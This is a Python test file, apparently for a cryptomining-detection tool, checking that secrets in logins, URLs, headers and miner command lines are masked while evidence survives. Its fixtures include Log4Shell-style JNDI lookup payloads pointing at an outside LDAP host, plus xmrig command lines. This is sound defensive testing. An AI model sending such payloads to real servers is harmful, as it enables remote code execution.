"""The masking functions of output/secrets.py: secrets never survive, evidence does, masking is idempotent."""

from __future__ import annotations

import string

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from minerwatch.events import SECRET_MASK
from minerwatch.output.secrets import _RULES, _hinted, mask_event, mask_excerpt, mask_login, mask_text

XMR = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
M = SECRET_MASK


@pytest.mark.parametrize(
    ("login", "masked"),
    [
        (f"{XMR}:x", f"{XMR}:{M}"),
        (f"{XMR}.rig1:rig1", f"{XMR}.rig1:{M}"),
        (f"{XMR}+50000:pw:with:colons", f"{XMR}+50000:{M}"),
        (f"XMR:{XMR}.rig1#ref", f"XMR:{XMR}.rig1#ref"),  # a ticker's colon is no password
        (f"{XMR}.rig1", f"{XMR}.rig1"),
        ("bob@example.com", "bob@example.com"),
        ("bob:", "bob:"),
    ],
)
def test_login_keeps_wallet_and_worker_and_masks_the_password(login: str, masked: str) -> None:
    assert mask_login(login) == masked


@pytest.mark.parametrize(
    ("url", "masked"),
    [
        (
            "http://user:p@ss@host:80/x?token=abc&user=bob#f",
            f"http://user:{M}@host:80/x?token={M}&user=bob#f",
        ),
        (f"stratum+tcp://{XMR}.w:pw@pool.example:3333", f"stratum+tcp://{XMR}.w:{M}@pool.example:3333"),
        ("stratum+tcp://auth.example.com:3333", "stratum+tcp://auth.example.com:3333"),
        ("/api?api_key=K1&Password=P2&q=1", f"/api?api_key={M}&Password={M}&q=1"),
        ("/wallet/rig?miner=1@44x@rig", "/wallet/rig?miner=1@44x@rig"),
    ],
)
def test_url_keeps_host_path_and_user_and_masks_passwords(url: str, masked: str) -> None:
    assert mask_text(url) == masked


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        (
            "GET /\\r\\nAuthorization: Basic dXNlcjpwYXNz\\r\\nCookie: a=1; sess=2\\r\\nX-Api-Key: k\\r\\n",
            f"GET /\\r\\nAuthorization: Basic {M}\\r\\nCookie: a={M}; sess={M}\\r\\nX-Api-Key: {M}\\r\\n",
        ),
        (
            '{"login": "w", "pass": "x", "api_key": 12, "n": 1}',
            f'{{"login": "w", "pass": "{M}", "api_key": {M}, "n": 1}}',
        ),
        ("xmrig -o pool:3333 -u w.rig:pw -p x -t 2", f"xmrig -o pool:3333 -u w.rig:{M} -p {M} -t 2"),
        ("ssh -p 2222 root@10.0.0.1", "ssh -p 2222 root@10.0.0.1"),
        ("ALTER USER bob WITH PASSWORD 'hunter2'", f"ALTER USER bob WITH PASSWORD '{M}'"),
        (
            "XMRig/6.16.0 (Linux x86_64) libuv/1.42.0 gcc/9.3.0",
            "XMRig/6.16.0 (Linux x86_64) libuv/1.42.0 gcc/9.3.0",
        ),
    ],
)
def test_text_masks_password_fields_headers_and_options(text: str, masked: str) -> None:
    assert mask_text(text) == masked


def test_excerpt_keeps_the_exploit_but_masks_other_secrets() -> None:
    body = "...user=bob&password=${jndi:ldap://198.51.100.7/a}&token=t0k"
    assert (
        mask_excerpt(body, "${jndi:", "payload")
        == f"...user=bob&password=${{jndi:ldap://198.51.100.7/a}}&token={M}"
    )
    headers = "Cookie: session=abc; x=${jndi:ldap://e/a}\\r\\nAuthorization: Bearer abc"
    assert mask_excerpt(headers, "${jndi:", "http.headers") == (
        f"Cookie: session={M}; x=${{jndi:ldap://e/a}}\\r\\nAuthorization: Bearer {M}"
    )
    # A secret header seen alone (its name is the field): its whole value, the cut marks kept.
    assert mask_excerpt("...Basic Zm9vOmJhcg==", "Zm9v", "http.header.x-auth") == "...Basic Zm9vOmJhcg=="
    assert mask_excerpt("...Basic Zm9vOmJhcg==...", "zzz", "http.header.authorization") == f"...{M}..."
    assert mask_excerpt("a=1; b=2", None, "http.header.cookie") == f"a={M}; b={M}"


def test_event_masks_by_field_name_and_says_where() -> None:
    body = {"login": f"{XMR}.rig:pw", "password": "x", "worker": "rig", "urls": ["http://a:b@pool/"]}
    raw = dict(body)
    alert = {"matched": [{"field": "payload", "match": "${jndi:", "excerpt": "pass=${jndi:x} token=t"}]}
    event = {"event_type": "mining", "mining": body, "alert": alert}
    assert mask_event(event) is event
    assert event["mining"] == {
        "login": f"{XMR}.rig:{M}",
        "password": M,
        "worker": "rig",
        "urls": [f"http://a:{M}@pool/"],
    }
    assert event["alert"]["matched"][0] == {
        "field": "payload",
        "match": "${jndi:",
        "excerpt": f"pass=${{jndi:x}} token={M}",
    }
    assert event["secrets_masked"] == [
        "alert.matched.excerpt",
        "mining.login",
        "mining.password",
        "mining.urls",
    ]
    assert body == raw  # the detector's own dict is never changed: the correlator reads raw values from it
    again = dict(event)
    mask_event(again)
    assert again == event  # idempotent


def test_event_without_secrets_is_left_alone() -> None:
    event = {"event_type": "mining", "mining": {"login": XMR, "agent": "XMRig/6.16.0", "target": "b88d0600"}}
    assert mask_event(dict(event)) == event


# Secrets are drawn from characters the surroundings never use (no lower case, no digit, no punctuation
# of theirs), so any character surviving is a leak.
SECRET = st.text(alphabet=string.ascii_uppercase + string.digits + "!$%()+~", min_size=1, max_size=40)
WORD = st.text(alphabet="bcdfghlmnqrvxyz", min_size=1, max_size=12)  # spells no secret-like name
NAMES = st.sampled_from(
    ["password", "pass", "passwd", "pwd", "secret", "token", "api_key", "auth", "user_password"]
)


def contexts(secret: str, name: str, word: str) -> list[tuple[str, str]]:
    """(text with the secret, the same text with it masked): every place a secret is known to hide."""
    return [
        (
            f"http://{word}:{secret}@{word}.example/{word}?a=b",
            f"http://{word}:{M}@{word}.example/{word}?a=b",
        ),
        (f"/{word}?{word}=a&{name}={secret}&b=c", f"/{word}?{word}=a&{name}={M}&b=c"),
        (f'{{"{name}": "{secret}", "{word}": "{word}"}}', f'{{"{name}": "{M}", "{word}": "{word}"}}'),
        (f"{word}=a&{name}={secret}", f"{word}=a&{name}={M}"),
        (f"authorization: bearer {secret}\\r\\nhost: {word}", f"authorization: bearer {M}\\r\\nhost: {word}"),
        (f"cookie: {word}={secret}; {name}={secret}", f"cookie: {word}={M}; {name}={M}"),
        (
            f"{word} -o {word}.example -u {word}:{secret} --pass={secret}",
            f"{word} -o {word}.example -u {word}:{M} --pass={M}",
        ),
    ]


@settings(max_examples=300, deadline=None)
@given(SECRET, NAMES, WORD)
def test_a_secret_never_survives_and_the_evidence_does(secret: str, name: str, word: str) -> None:
    for text, expected in contexts(secret, name, word):
        masked = mask_text(text)
        assert masked == expected
        assert not set(secret) & set(masked.replace(M, "")), (text, masked)
        assert mask_text(masked) == masked


@settings(max_examples=300, deadline=None)
@given(SECRET, st.sampled_from(["", ".rig1", "/rig1", "+5000", ".rig1+5000"]))
def test_a_login_password_never_survives(secret: str, suffix: str) -> None:
    login = f"{XMR}{suffix}:{secret}"
    masked = mask_login(login)
    assert masked == f"{XMR}{suffix}:{M}" and mask_login(masked) == masked


@settings(max_examples=2000, deadline=None)
@given(
    st.text(max_size=200)
    | st.lists(
        st.sampled_from(
            [
                "password",
                "=",
                ":",
                " ",
                "@",
                "//",
                "-p ",
                "-u ",
                "--user ",
                "-O ",
                "\t",
                "\x0b",
                "pa\u017f\u017f",  # long s: case-insensitive to "s" in Unicode regexes, not in ours (ASCII)
                "\u212aey",  # Kelvin sign
                "PASS",
                "\\r\\n",
                "cookie: ",
                "x",
                ";",
                '"',
                "&",
            ]
        ),
        max_size=30,
    ).map("".join)
)
def test_masking_is_idempotent_and_never_raises(text: str) -> None:
    assert _RULES.search(text) is None or _hinted(text)  # the first look misses nothing
    once = mask_text(text)
    assert mask_text(once) == once
    assert mask_login(mask_login(text)) == mask_login(text)
    assert mask_excerpt(text, text[:3] or None, "http.header.cookie") is not None
